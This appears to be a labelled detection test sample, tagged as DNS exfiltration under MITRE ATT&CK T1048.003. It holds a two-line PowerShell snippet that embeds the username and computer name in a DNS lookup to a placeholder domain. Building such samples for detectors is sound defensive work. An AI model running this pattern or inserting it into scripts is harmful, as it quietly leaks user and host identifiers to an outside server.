# expect: dns-exfiltration | source: MITRE ATT&CK T1048.003
$n = $env:USERNAME + '-' + $env:COMPUTERNAME
Resolve-DnsName "$n.in.example.invalid" | Out-Null
